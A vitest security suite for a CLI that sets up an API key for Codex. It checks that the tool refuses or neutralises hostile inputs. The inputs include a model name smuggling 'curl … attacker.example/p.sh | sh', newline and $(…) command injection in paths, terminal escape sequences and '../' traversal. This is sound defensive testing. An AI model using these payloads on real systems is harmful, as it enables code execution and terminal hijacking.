/**
 * A hostile machine, gateway and environment (issue "Secure against a hostile machine"): each
 * problem a security review reproduced, reproduced here against the built CLI in temp homes
 * (and real bash, zsh and fish where a shell runs the result), and shown fixed.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, chownSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { StandIn } from '../support/gateway.js';
import { startProxy } from '../support/gateway.js';
import { doctorJson } from '../support/doctor.js';
import { runProcess } from '../support/process.js';
import { Sandbox } from '../support/sandbox.js';
import { useStandInAndSandbox } from '../support/standin.js';

const KEY = 'sk-lw-security-0123456789ab';
const OTHER_UID = 65534; // nobody: "another local user"
/** Making a file another user's takes root: those tests run as root (as CI does here) and say "skipped" otherwise. */
const AS_ROOT = process.getuid?.() === 0;
const ME = process.getuid?.() ?? 0;
let gw: StandIn;
let sb: Sandbox;
useStandInAndSandbox((g, s) => {
  gw = g;
  sb = s;
});

const octal = (p: string) => (statSync(p).mode & 0o7777).toString(8);
const PRINT = 'printf "[%s]" "$LIGHTWEIGHT_API_KEY"';
const SHELLS = [
  { shell: 'bash', argv: ['bash', '-ic', PRINT], keyFile: '.config/lightweight/env' },
  { shell: 'zsh', argv: ['zsh', '-ic', PRINT], keyFile: '.config/lightweight/env' },
  { shell: 'fish', argv: ['fish', '-i', '-c', PRINT], keyFile: '.config/lightweight/env.fish' },
];
const newShell = (argv: string[], env: NodeJS.ProcessEnv = {}) => runProcess(argv[0]!, argv.slice(1), { env: { ...sb.env, ...env }, cwd: sb.home, timeoutMs: 20_000 });

const SECRETS = {
  idToken: 'eyJhbGciOiJSUzI1NiJ9.id-token-payload-ABCDEFGH',
  accessToken: 'access-token-0123456789-QWERTY',
  refreshToken: 'refresh-token-0123456789-ZXCVB',
  pasted: 'sk-lw-pasted-into-bashrc-5551234',
  bearer: 'bearer-token-in-config-777888999',
  oldKey: 'sk-lw-hand-edited-old-key-4242',
};

function plantSecrets(): void {
  sb.write('.codex/auth.json', JSON.stringify({ auth_mode: 'chatgpt', tokens: { id_token: SECRETS.idToken, access_token: SECRETS.accessToken, refresh_token: SECRETS.refreshToken } }, null, 2), 0o600);
  sb.write('.bashrc', `alias ll='ls -l'\nexport LIGHTWEIGHT_API_KEY=${SECRETS.pasted}\n`);
  sb.write('.codex/config.toml', `model = "o3"\n\n[model_providers.lightweight]\nname = "Lightweight API"\nexperimental_bearer_token = "${SECRETS.bearer}"\n`);
  sb.write('.config/lightweight/env', `# edited by hand\nexport LIGHTWEIGHT_API_KEY='${SECRETS.oldKey}'\n`, 0o600);
}

describe('1. nothing secret is printed in a preview', () => {
  it('setup --dry-run, restore and uninstall (even without a terminal) mask tokens, pasted keys, bearer tokens and old keys', async () => {
    plantSecrets();
    const outputs: string[] = [];
    for (const args of [['--dry-run', '--layout', 'openai-base-url'], ['--dry-run']]) outputs.push((await sb.setup(KEY, args)).all);
    expect((await sb.setup(KEY, ['--no-verify', '--layout', 'openai-base-url'])).code).toBe(0);
    outputs.push((await sb.run(['restore'])).all); // no terminal, no --yes: shows, then refuses
    outputs.push((await sb.run(['restore', '--yes'])).all);
    expect((await sb.setup(KEY, ['--no-verify', '--layout', 'openai-base-url'])).code).toBe(0);
    outputs.push((await sb.run(['uninstall'])).all);
    outputs.push((await sb.run(['uninstall', '--yes'])).all);
    const all = outputs.join('\n');
    for (const [name, secret] of Object.entries(SECRETS)) {
      expect(all, name).not.toContain(secret);
      expect(all, name).not.toContain(secret.slice(0, 12));
    }
    expect(all).not.toContain(KEY);
    // Still readable: what changes, with the values masked.
    expect(all).toContain('experimental_bearer_token = "****8999"');
    expect(all).toContain('"id_token": "****EFGH"');
  });
});

describe('2. a widened key directory is made private again, and doctor and the shells notice', () => {
  it('setup with the same key makes a 0777 directory and 0666 files private again; doctor fails until then', async () => {
    expect((await sb.setup(KEY, ['--base-url', gw.base])).code).toBe(0);
    chmodSync(sb.path('.config/lightweight'), 0o777);
    const keyFile = (await doctorJson(sb)).checks('key-file')[0]!;
    expect(keyFile).toMatchObject({ status: 'fail' });
    expect(keyFile.title).toMatch(/lightweight, which holds the key file, is writable by others \(mode 0777\)/);

    chmodSync(sb.path('.config/lightweight/env'), 0o666);
    const again = await sb.setup(KEY, ['--base-url', gw.base]);
    expect(again.code, again.all).toBe(0);
    expect(octal(sb.path('.config/lightweight'))).toBe('700');
    expect(octal(sb.path('.config/lightweight/env'))).toBe('600');
    expect(octal(sb.path('.config/lightweight/env.fish'))).toBe('600');
    expect((await doctorJson(sb)).checks('key-file')[0]!.status).toBe('pass');
  });

  it.skipIf(!AS_ROOT)("doctor fails a key file that belongs to another user, and one in another user's directory", async () => {
    expect((await sb.setup(KEY, ['--base-url', gw.base])).code).toBe(0);
    const keyCheck = async () => (await doctorJson(sb)).checks('key-file')[0]!;
    chownSync(sb.path('.config/lightweight/env'), OTHER_UID, OTHER_UID);
    expect(await keyCheck()).toMatchObject({ status: 'fail', title: expect.stringContaining(`belongs to another user (uid ${OTHER_UID})`) });
    chownSync(sb.path('.config/lightweight/env'), ME, ME);
    chownSync(sb.path('.config/lightweight'), OTHER_UID, OTHER_UID);
    expect(await keyCheck()).toMatchObject({ status: 'fail', title: expect.stringContaining('which holds the key file, belongs to another user') });
  });

  it.each(SHELLS)('real $shell does not load a key file others can write to, and says so', async ({ shell, argv, keyFile }) => {
    expect((await sb.setup(KEY, ['--no-verify', '--shell', shell])).code).toBe(0);
    expect((await newShell(argv)).stdout).toBe(`[${KEY}]`);
    for (const mode of [0o666, 0o620]) {
      chmodSync(sb.path(keyFile), mode);
      const open = await newShell(argv);
      expect(open.stdout, mode.toString(8)).toBe('[]');
      expect(open.stderr).toContain(`lightweight-setup: not loading ${sb.path(keyFile)}: it is not yours, or others can write to it. Run: npx lightweight-setup`);
    }
    chmodSync(sb.path(keyFile), 0o600);
    expect((await newShell(argv)).stdout).toBe(`[${KEY}]`);
  });

  it.skipIf(!AS_ROOT).each(SHELLS)("real $shell does not load a key file that belongs to another user", async ({ shell, argv, keyFile }) => {
    expect((await sb.setup(KEY, ['--no-verify', '--shell', shell])).code).toBe(0);
    chownSync(sb.path(keyFile), OTHER_UID, OTHER_UID);
    const foreign = await newShell(argv);
    expect(foreign.stdout).toBe('[]');
    expect(foreign.stderr).toContain('it is not yours, or others can write to it');
    chownSync(sb.path(keyFile), ME, ME);
    expect((await newShell(argv)).stdout).toBe(`[${KEY}]`);
  });

  it("Codex's auth command refuses a key file that is not the user's own or that others can write to", async () => {
    expect((await sb.setup(KEY, ['--no-verify', '--key-source', 'file'])).code).toBe(0);
    const auth = sb.config().model_providers.lightweight.auth as { command: string; args: string[] };
    const runAuth = () => spawnSync(auth.command, auth.args, { env: { HOME: sb.home, PATH: '/usr/bin:/bin' }, encoding: 'utf8' });
    expect(runAuth().stdout).toBe(KEY);
    chmodSync(sb.path('.config/lightweight/env'), 0o646);
    const open = runAuth();
    expect(open.status).toBe(1);
    expect(open.stdout).toBe('');
    expect(open.stderr).toContain('is not yours, or others can write to it; run: npx lightweight-setup');
    chmodSync(sb.path('.config/lightweight/env'), 0o600);
    expect(runAuth().stdout).toBe(KEY);
    if (!AS_ROOT) return; // making it another user's takes root
    chownSync(sb.path('.config/lightweight/env'), OTHER_UID, OTHER_UID);
    expect(runAuth()).toMatchObject({ status: 1, stdout: '' });
  });
});

describe('3. modes of directories the tool does not own are never changed', () => {
  it('a key file symlinked into a sticky world-writable directory: refused, and the directory keeps 1777', async () => {
    const shared = join(sb.root, 'shared');
    mkdirSync(shared);
    chmodSync(shared, 0o1777);
    mkdirSync(sb.path('.config/lightweight'), { recursive: true, mode: 0o700 });
    symlinkSync(join(shared, 'env'), sb.path('.config/lightweight/env'));
    const before = sb.tree();
    const r = await sb.setup(KEY, ['--no-verify']);
    expect(r.code, r.all).toBe(2);
    expect(r.stderr).toContain(`it would land in ${shared}, which others can write to (mode 1777), so another user could replace it`);
    expect(r.stderr).toContain('nothing was changed');
    expect(octal(shared)).toBe('1777');
    expect(readdirSync(shared)).toEqual([]);
    expect(sb.tree()).toEqual(before);
  });

  it.skipIf(!AS_ROOT)("a key file symlinked into another user's directory: refused, its mode untouched", async () => {
    const theirs = join(sb.root, 'theirs');
    mkdirSync(theirs, { mode: 0o755 });
    chownSync(theirs, OTHER_UID, OTHER_UID);
    mkdirSync(sb.path('.config/lightweight'), { recursive: true, mode: 0o700 });
    symlinkSync(join(theirs, 'env'), sb.path('.config/lightweight/env'));
    const r = await sb.setup(KEY, ['--no-verify']);
    expect(r.code, r.all).toBe(2);
    expect(r.stderr).toContain(`which belongs to another user (uid ${OTHER_UID})`);
    expect(octal(theirs)).toBe('755');
    expect(existsSync(join(theirs, 'env'))).toBe(false);
  });

  it("the tool's directory reached through a symlink to a private directory of the user's: written, that directory's mode left alone", async () => {
    const dots = join(sb.root, 'dotfiles-lightweight');
    mkdirSync(dots, { mode: 0o750 });
    mkdirSync(sb.path('.config'), { recursive: true });
    symlinkSync(dots, sb.path('.config/lightweight'));
    const r = await sb.setup(KEY, ['--no-verify']);
    expect(r.code, r.all).toBe(0);
    expect(octal(dots)).toBe('750');
    expect(octal(join(dots, 'env'))).toBe('600');
  });
});

describe('4. plain http only to this machine, and never through a proxy', () => {
  it('setup with HTTP_PROXY set checks http://localhost and 127.0.0.1 directly: the proxy sees nothing', async () => {
    const proxy = await startProxy(Number(new URL(gw.url).port));
    try {
      const env = { HTTP_PROXY: proxy.url, http_proxy: proxy.url, HTTPS_PROXY: proxy.url, ALL_PROXY: proxy.url };
      for (const base of [gw.base, gw.base.replace('127.0.0.1', 'localhost')]) {
        const r = await sb.setup(KEY, ['--base-url', base], { env });
        expect(r.code, r.all).toBe(0);
        expect(r.all).not.toContain('proxy');
      }
      expect(proxy.connects).toEqual([]);
      expect(gw.requests.filter((q) => q.path === '/v1/models')).toHaveLength(2);
    } finally {
      await proxy.close();
    }
  });

  it.each(['http://app.localhost:8080/v1', 'http://localhost.example.com/v1', 'http://127.0.0.1.nip.io/v1'])('plain http to %s is refused: DNS decides where it goes', async (url) => {
    const before = sb.tree();
    const r = await sb.setup(KEY, ['--base-url', url]);
    expect(r.code, r.all).toBe(2);
    expect(r.stderr).toContain('Plain http:// is only allowed for this machine');
    expect(sb.tree()).toEqual(before);
  });
});

describe('5. a stale lock is taken over by one run only, and a running run is never pruned', () => {
  it('eight runs racing for a lock left by a killed run: all succeed, every rc file is recorded, uninstall removes every block', async () => {
    const dead = spawnSync(process.execPath, ['-e', '0']).pid;
    mkdirSync(sb.path('.config/lightweight'), { recursive: true, mode: 0o700 });
    writeFileSync(sb.path('.config/lightweight/lock'), `${dead}\n`);
    const rcs = Array.from({ length: 8 }, (_, i) => sb.write(`rc-${i}`, `# rc ${i}\n`));
    const runs = await Promise.all(rcs.map((rc) => sb.setup(KEY, ['--no-verify', '--rc-file', rc, '--shell', 'bash'], { timeoutMs: 60_000 })));
    for (const r of runs) expect(r.code, r.all).toBe(0);
    const state = JSON.parse(sb.read('.config/lightweight/state.json')) as { rcFiles: string[] };
    expect(state.rcFiles).toEqual(expect.arrayContaining(rcs));
    expect(existsSync(sb.path('.config/lightweight/lock'))).toBe(false);
    const u = await sb.run(['uninstall', '--yes']);
    expect(u.code, u.all).toBe(0);
    for (const rc of rcs) expect(readFileSync(rc, 'utf8')).not.toContain('lightweight-setup');
  });

  it('a run still under way (its process alive, its record incomplete) is not pruned, however many runs came after', async () => {
    const backups = sb.path('.config/lightweight/backups');
    const run = (i: number, extra: object) => {
      const id = `2020010${1 + Math.floor(i / 10)}T0000${String(i % 10).padStart(2, '0')}.000Z-${String(i).padStart(6, '0')}`;
      mkdirSync(join(backups, id), { recursive: true, mode: 0o700 });
      writeFileSync(join(backups, id, 'manifest.json'), JSON.stringify({ version: 1, id, command: 'setup', createdAt: `2020-01-0${1 + Math.floor(i / 10)}T00:00:${String(i % 10).padStart(2, '0')}.000Z`, entries: [], complete: true, ...extra }));
      return join(backups, id);
    };
    // The oldest run belongs to a process that still runs (this test's own): it must survive.
    const running = run(0, { complete: false, pid: process.pid });
    const finished = run(1, {});
    for (let i = 2; i < 30; i++) run(i, {});
    expect((await sb.setup(KEY, ['--no-verify'])).code).toBe(0);
    expect(existsSync(running)).toBe(true);
    expect(existsSync(finished)).toBe(false);
  });
});

describe('6. uninstall removes the keys where they really are', () => {
  it('with ~/.config/lightweight a symlink: the key files and backups in its target go, then the link', async () => {
    const real = join(sb.root, 'dotfiles-lightweight');
    mkdirSync(real, { mode: 0o700 });
    mkdirSync(sb.path('.config'), { recursive: true });
    symlinkSync(real, sb.path('.config/lightweight'));
    expect((await sb.setup(KEY, ['--no-verify'])).code).toBe(0);
    expect((await sb.setup('sk-lw-second-key-00000009', ['--no-verify'])).code).toBe(0);
    expect(readdirSync(join(real, 'backups')).length).toBeGreaterThan(0);
    const u = await sb.run(['uninstall', '--yes']);
    expect(u.code, u.all).toBe(0);
    expect(u.stdout).toContain(`(a symlink: the files in ${real} go, then the link)`);
    expect(existsSync(real)).toBe(false);
    expect(existsSync(sb.path('.config/lightweight'))).toBe(false);
    expect(() => lstatSync(sb.path('.config/lightweight'))).toThrow();
  });

  it('a file of someone else in the directory stays, and uninstall says so', async () => {
    expect((await sb.setup(KEY, ['--no-verify'])).code).toBe(0);
    sb.write('.config/lightweight/notes.txt', 'mine\n');
    const u = await sb.run(['uninstall', '--yes']);
    expect(u.code, u.all).toBe(0);
    expect(u.stdout).toContain('Left ~/.config/lightweight/notes.txt: not written by lightweight-setup');
    expect(readdirSync(sb.path('.config/lightweight'))).toEqual(['notes.txt']);
  });
});

describe('7. a gateway cannot drive the terminal', () => {
  const HOSTILE = ['gpt-5.4', 'gpt-5.4-mini', 'gpt-5.4\u001b]0;pwned-title\u0007', '\u001b]0;pwned\u0007gpt-5.4-nano', '\u001b[2J\u001b[Hgpt-5.4-max', 'hid\u001b[8mden', '\u001b]52;c;ZXZpbA==\u0007clip', 'bidi\u202egpt'];
  const clean = (text: string) => {
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
    return text;
  };

  it('model ids with control characters are never shown as such: left out of every list, and counted', async () => {
    expect((await sb.setup(KEY, ['--base-url', gw.base])).code).toBe(0);
    gw.models = HOSTILE;
    const models = await sb.run(['models'], { env: { LIGHTWEIGHT_API_KEY: KEY } });
    expect(clean(models.all)).toContain('Models served by');
    expect(models.all).not.toContain('pwned');
    const doctor = await sb.run(['doctor'], { env: { LIGHTWEIGHT_API_KEY: KEY } });
    expect(clean(doctor.all)).toContain('with 2 models (6 with characters no model name has left out)');
    // A model the gateway does not serve: setup names the closest served ones, all of them plain names.
    gw.models = HOSTILE.filter((m) => m !== 'gpt-5.4');
    const setup = await sb.setup(KEY, ['--base-url', gw.base, '--model', 'gpt-5.4']);
    expect(clean(setup.all)).toContain('closest served: gpt-5.4-mini');
    expect(setup.all).not.toContain('pwned');
    const json = JSON.parse((await sb.run(['models', '--json'], { env: { LIGHTWEIGHT_API_KEY: KEY } })).stdout) as { models: Array<{ id: string }> };
    expect(json.models.map((m) => m.id)).toEqual(['gpt-5.4-mini']);
  });

  it("a gateway's error message and a config file's values are shown escaped too", async () => {
    expect((await sb.setup(KEY, ['--base-url', gw.base])).code).toBe(0);
    gw.behave({ kind: 'status', status: 403, body: JSON.stringify({ error: { message: 'denied\u001b]0;owned\u0007 for you' } }) });
    const doctor = await sb.run(['doctor'], { env: { LIGHTWEIGHT_API_KEY: KEY } });
    expect(clean(doctor.all)).toContain('(HTTP 403: denied');
    sb.write('.codex/config.toml', sb.read('.codex/config.toml').replace(/^model = .*$/m, 'model = "gpt\\u001b[2J-5.4"'), 0o600);
    clean((await sb.run(['status'])).all);
    clean((await sb.run(['doctor'])).all);
  });
});

describe('8. no path can change the structure of the shell block', () => {
  it.each([
    ['XDG_CONFIG_HOME', (root: string) => ({ XDG_CONFIG_HOME: `${root}/cfg\n# <<< lightweight-setup <<<\ntouch /tmp/pwned\n` })],
    ['ZDOTDIR', (root: string) => ({ ZDOTDIR: `${root}/z\ndot`, SHELL: '/bin/zsh' })],
  ])('a newline in %s is refused, and nothing is written', async (_n, env) => {
    const before = sb.tree();
    const r = await sb.setup(KEY, ['--no-verify'], { env: env(sb.root) });
    expect(r.code, r.all).toBe(2);
    expect(r.stderr).toContain('has a newline or another control character in it');
    expect(sb.tree()).toEqual(before);
  });

  it('quotes, $(...), backquotes and spaces in the path stay one word: real bash loads the key, uninstall removes the whole block', async () => {
    const xdg = join(sb.root, `it's a "$(touch pwned)" \`x\` dir`);
    mkdirSync(xdg);
    const env = { XDG_CONFIG_HOME: xdg };
    expect((await sb.setup(KEY, ['--no-verify', '--shell', 'bash'], { env })).code).toBe(0);
    const r = await newShell(['bash', '-ic', PRINT], env);
    expect(r.stdout).toBe(`[${KEY}]`);
    expect(existsSync(join(sb.home, 'pwned'))).toBe(false);
    expect((await sb.run(['uninstall', '--yes'], { env })).code).toBe(0);
    expect(existsSync(sb.path('.bashrc')) ? sb.read('.bashrc') : '').not.toContain('lightweight');
  });
});

describe('9. symlinks resolved the way the OS does', () => {
  it('ZDOTDIR a symlinked directory with .zshrc a relative symlink inside it: the block goes into the file zsh reads', async () => {
    // ~/zdot -> ~/dotfiles/zsh, and ~/dotfiles/zsh/.zshrc -> ../zshrc (relative to the real directory).
    mkdirSync(sb.path('dotfiles/zsh'), { recursive: true });
    sb.write('dotfiles/zshrc', '# the real zshrc\n');
    symlinkSync('../zshrc', sb.path('dotfiles/zsh/.zshrc'));
    symlinkSync(sb.path('dotfiles/zsh'), sb.path('zdot'));
    // The wrong reading (relative to ~/zdot's parent) would land in ~/zshrc.
    sb.write('zshrc', '# an unrelated file\n');
    const env = { ZDOTDIR: sb.path('zdot'), SHELL: '/bin/zsh' };
    const r = await sb.setup(KEY, ['--no-verify'], { env });
    expect(r.code, r.all).toBe(0);
    expect(sb.read('dotfiles/zshrc')).toContain('# >>> lightweight-setup >>>');
    expect(sb.read('zshrc')).toBe('# an unrelated file\n');
    expect(lstatSync(sb.path('dotfiles/zsh/.zshrc')).isSymbolicLink()).toBe(true);
    expect((await newShell(['zsh', '-ic', PRINT], env)).stdout).toBe(`[${KEY}]`);
  });
});

describe('10. restore trusts only what the tool could have written', () => {
  async function tamper(edit: (m: { entries: Array<Record<string, unknown>> }, dir: string) => void) {
    sb.write('.bashrc', '# mine\n');
    expect((await sb.setup(KEY, ['--no-verify', '--shell', 'bash'])).code).toBe(0);
    const backups = sb.path('.config/lightweight/backups');
    const dir = join(backups, readdirSync(backups)[0]!);
    const m = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8')) as { entries: Array<Record<string, unknown>> };
    edit(m, dir);
    writeFileSync(join(dir, 'manifest.json'), JSON.stringify(m));
  }

  it.each([
    ['a backup path with ../', (m: { entries: Array<Record<string, unknown>> }) => (m.entries.find((e) => e.backup)!.backup = '../../../../../../../../etc/hostname'), /is not inside the run's directory/],
    ['a target the tool never writes', (m: { entries: Array<Record<string, unknown>> }) => Object.assign(m.entries.find((e) => String(e.path).endsWith('.bashrc'))!, { path: sb.path('victim'), target: sb.path('victim') }), /is not a file lightweight-setup writes/],
    ['a path with ..', (m: { entries: Array<Record<string, unknown>> }) => Object.assign(m.entries.find((e) => String(e.path).endsWith('.bashrc'))!, { path: `${sb.home}/.codex/../victim` }), /is not a plain absolute path/],
    ['a backup that is a symlink', (m: { entries: Array<Record<string, unknown>> }, dir: string) => {
      const e = m.entries.find((x) => x.backup)!;
      execFileSync('rm', [join(dir, String(e.backup))]);
      symlinkSync('/etc/hostname', join(dir, String(e.backup)));
    }, /is missing or not a regular file/],
  ])('%s: refused, nothing written', async (_n, edit, message) => {
    sb.write('victim', 'precious\n');
    await tamper(edit);
    const before = sb.tree();
    const r = await sb.run(['restore', '--yes', '--force']);
    expect(r.code, r.all).toBe(2);
    expect(r.stderr).toMatch(message);
    expect(r.stderr).toContain('Nothing was restored');
    expect(sb.tree()).toEqual(before);
  });

  it('a recorded mode that would leave a file writable by others is clamped', async () => {
    await tamper((m) => (m.entries.find((e) => String(e.path).endsWith('.bashrc'))!.mode = 0o666));
    const r = await sb.run(['restore', '--yes']);
    expect(r.code, r.all).toBe(0);
    expect(sb.read('.bashrc')).toBe('# mine\n');
    expect(octal(sb.path('.bashrc'))).toBe('644');
  });
});

describe('11. no self-inflicted hangs or crashes', () => {
  it.each([
    ['a symlink to /dev/zero', (p: string) => symlinkSync('/dev/zero', p)],
    ['a FIFO', (p: string) => execFileSync('mkfifo', [p])],
  ])('a lock file that is %s: a clear error at once, nothing written', async (_n, make) => {
    mkdirSync(sb.path('.config/lightweight'), { recursive: true, mode: 0o700 });
    make(sb.path('.config/lightweight/lock'));
    const before = sb.tree();
    const r = await sb.setup(KEY, ['--no-verify'], { timeoutMs: 15_000 });
    expect(r.code, r.all).toBe(2);
    expect(r.stderr).toContain('is not a regular file (a symlink, pipe or device)');
    expect(sb.tree()).toEqual(before);
  });

  it.each(['~/.config/lightweight/env', '~/.config/lightweight/env.fish', '~/.config/lightweight/backups/rc'])('--rc-file %s (inside the tool\'s own directory) is refused', async (rc) => {
    expect((await sb.setup(KEY, ['--no-verify'])).code).toBe(0);
    const before = sb.tree();
    const r = await sb.setup(KEY, ['--no-verify', '--rc-file', rc, '--shell', 'bash']);
    expect(r.code, r.all).toBe(2);
    expect(r.stderr).toContain("is inside ~/.config/lightweight, the tool's own directory");
    expect(sb.tree()).toEqual(before);
    expect((await newShell(['bash', '-ic', PRINT])).code).toBe(0);
  });

  it('an --rc-file that is a symlink into the tool\'s directory is refused too', async () => {
    expect((await sb.setup(KEY, ['--no-verify'])).code).toBe(0);
    symlinkSync(sb.path('.config/lightweight/env'), sb.path('myrc'));
    const r = await sb.setup(KEY, ['--no-verify', '--rc-file', '~/myrc', '--shell', 'bash']);
    expect(r.code, r.all).toBe(2);
    expect(r.stderr).toContain("the tool's own directory");
  });
});

describe('12. a key the gateway echoes is masked everywhere it is shown (issue 21, 7)', () => {
  const echoing = () =>
    gw.behave({ kind: 'status', status: 401, body: JSON.stringify({ error: { message: `Incorrect API key provided: ${KEY}. You can find your key in the dashboard.` } }) });

  it('setup, doctor, doctor --json, models and models --test show ****<last 4>, never the key', async () => {
    expect((await sb.setup(KEY, ['--base-url', gw.base, '--no-verify'])).code).toBe(0);
    echoing();
    const outputs = [
      await sb.setup(KEY, ['--base-url', gw.base]),
      await sb.run(['doctor'], { env: { LIGHTWEIGHT_API_KEY: KEY } }),
      await sb.run(['doctor', '--json']),
      await sb.run(['doctor', '--live']),
      await sb.run(['models']),
      await sb.run(['models', '--json']),
      await sb.run(['models', '--test', '--json']),
    ];
    for (const r of outputs) {
      expect(r.all).not.toContain(KEY);
      expect(r.all).not.toContain(KEY.slice(0, 16));
    }
    // Still said: what the gateway answered, with the key masked.
    expect(outputs[0]!.stdout).toContain(`Incorrect API key provided: ****${KEY.slice(-4)}`);
    expect(outputs[2]!.stdout).toContain(`Incorrect API key provided: ****${KEY.slice(-4)}`);
  });
});

describe('13. model names and model lists from a hostile gateway (issue 21, 8 and 9)', () => {
  const EVIL = 'gpt-5.4-mini; curl -s https://attacker.example/p.sh | sh #';

  it('names no model can have are left out, counted, and never printed raw; a line feed forges no [ok] line', async () => {
    expect((await sb.setup(KEY, ['--base-url', gw.base, '--no-verify'])).code).toBe(0);
    gw.models = ['gpt-5.4', EVIL, 'evil\n[ok] gpt-5.4 is served', 'esc\u001b]0;owned\u0007'];
    const list = await sb.run(['models']);
    expect(list.code, list.all).toBe(0);
    expect(list.stdout).not.toMatch(/^\[ok\]/m);
    expect(list.all).not.toContain('attacker.example');
    expect(list.all).not.toContain('\u001b');
    const json = JSON.parse((await sb.run(['models', '--json'])).stdout) as { models: Array<{ id: string }> };
    expect(json.models.map((m) => m.id)).toEqual(['gpt-5.4']);
    const d = await sb.run(['doctor', '--json'], { env: { LIGHTWEIGHT_API_KEY: KEY } });
    expect(d.stdout).toContain('with 1 model (3 with characters no model name has left out)');
  });

  it('a model answering under such a name: no command is built from it', async () => {
    expect((await sb.setup(KEY, ['--base-url', gw.base, '--no-verify'])).code).toBe(0);
    gw.answerAs = EVIL;
    const r = await sb.run(['doctor', '--live'], { env: { LIGHTWEIGHT_API_KEY: KEY } });
    expect(r.all).toContain('a model whose name no model has: ask its operator');
    expect(r.all).not.toMatch(/--model gpt-5\.4-mini;/);
  });

  it('5,000 models: the first 100 are listed, the rest counted, and nothing grows past its bound', async () => {
    expect((await sb.setup(KEY, ['--base-url', gw.base, '--no-verify'])).code).toBe(0);
    gw.models = Array.from({ length: 5000 }, (_, i) => `model-${i}`);
    const json = JSON.parse((await sb.run(['models', '--json'])).stdout) as { models: unknown[] };
    expect(json.models).toHaveLength(100);
    const d = await sb.run(['doctor', '--json'], { env: { LIGHTWEIGHT_API_KEY: KEY } });
    expect(d.stdout).toContain('with 100 models (4900 beyond the first 100 left out)');
  });
});

describe('14. folders above the key file, and config.toml, only the user can change (issue 21, 2 and 3)', () => {
  it('XDG_CONFIG_HOME writable by others without the sticky bit: setup refuses before writing; doctor fails the key file', async () => {
    const shared = sb.path('shared-config');
    mkdirSync(shared, { recursive: true });
    chmodSync(shared, 0o777);
    const before = sb.tree();
    const r = await sb.setup(KEY, ['--base-url', gw.base, '--no-verify'], { env: { XDG_CONFIG_HOME: shared } });
    expect(r.code, r.all).toBe(2);
    expect(r.stderr).toContain(`${shared}, a folder above it, is not safe (others can write to it (mode 0777, no sticky bit))`);
    expect(sb.tree()).toEqual(before);
    // Set up while it was safe, widened afterwards: doctor names the folder.
    chmodSync(shared, 0o755);
    expect((await sb.setup(KEY, ['--base-url', gw.base, '--no-verify'], { env: { XDG_CONFIG_HOME: shared } })).code).toBe(0);
    chmodSync(shared, 0o777);
    const d = JSON.parse((await sb.run(['doctor', '--json'], { env: { XDG_CONFIG_HOME: shared } })).stdout) as { checks: Array<{ id: string; status: string; title: string }> };
    expect(d.checks.find((c) => c.id === 'key-file')).toMatchObject({ status: 'fail', title: '~/shared-config, a folder above the key file, is not safe: others can write to it (mode 0777, no sticky bit)' });
    // A sticky shared folder (like /tmp) is safe: others cannot rename what they do not own.
    chmodSync(shared, 0o1777);
    expect((await sb.setup(KEY, ['--base-url', gw.base, '--no-verify'], { env: { XDG_CONFIG_HOME: shared } })).code).toBe(0);
  });

  it.skipIf(!AS_ROOT)('XDG_CONFIG_HOME owned by another user: setup refuses, doctor fails', async () => {
    expect((await sb.setup(KEY, ['--base-url', gw.base, '--no-verify'])).code).toBe(0);
    chownSync(sb.path('.config'), OTHER_UID, OTHER_UID);
    const r = await sb.setup(KEY, ['--base-url', gw.base, '--no-verify']);
    expect(r.code, r.all).toBe(2);
    expect(r.stderr).toContain(`it belongs to another user (uid ${OTHER_UID})`);
    const d = JSON.parse((await sb.run(['doctor', '--json'])).stdout) as { checks: Array<{ id: string; status: string }> };
    expect(d.checks.find((c) => c.id === 'key-file')!.status).toBe('fail');
  });

  it('config.toml others can write: doctor fails it; setup makes it 0644 and says so', async () => {
    expect((await sb.setup(KEY, ['--base-url', gw.base, '--no-verify'])).code).toBe(0);
    chmodSync(sb.path('.codex/config.toml'), 0o666);
    const d = JSON.parse((await sb.run(['doctor', '--json'])).stdout) as { checks: Array<{ id: string; status: string; title: string }> };
    expect(d.checks.find((c) => c.id === 'config-file')).toMatchObject({ status: 'fail', title: '~/.codex/config.toml is not safe: others can write to it (mode 0666)' });
    const r = await sb.setup(KEY, ['--base-url', gw.base, '--no-verify']);
    expect(r.code, r.all).toBe(0);
    expect(r.stdout).toContain('~/.codex/config.toml was writable by others (mode 0666); it is now 0644, since it names the command Codex runs for the key.');
    expect(sb.mode('.codex/config.toml')).toBe(0o644);
  });

  it.skipIf(!AS_ROOT)("a Codex home another user owns: setup refuses, writing nothing", async () => {
    mkdirSync(sb.path('.codex'), { recursive: true });
    chownSync(sb.path('.codex'), OTHER_UID, OTHER_UID);
    const before = sb.tree();
    const r = await sb.setup(KEY, ['--base-url', gw.base, '--no-verify']);
    expect(r.code, r.all).toBe(2);
    expect(r.stderr).toContain(`~/.codex is not safe for Codex's config: it belongs to another user (uid ${OTHER_UID}).`);
    expect(sb.tree()).toEqual(before);
  });

  it('doctor runs only the exact auth command setup writes: one with code put in front is not run', async () => {
    expect((await sb.setup(KEY, ['--base-url', gw.base, '--no-verify'])).code).toBe(0);
    const marker = sb.path('ran-by-doctor');
    const config = sb.read('.codex/config.toml').replace('args = ["-c", "', `args = ["-c", "touch '${marker}'; `);
    sb.write('.codex/config.toml', config, 0o600);
    const d = JSON.parse((await sb.run(['doctor', '--json'])).stdout) as { checks: Array<{ id: string; status: string; title: string }> };
    expect(d.checks.find((c) => c.id === 'auth-command')).toMatchObject({ status: 'skip', title: "Codex's auth command is one of your own" });
    expect(existsSync(marker)).toBe(false);
  });
});
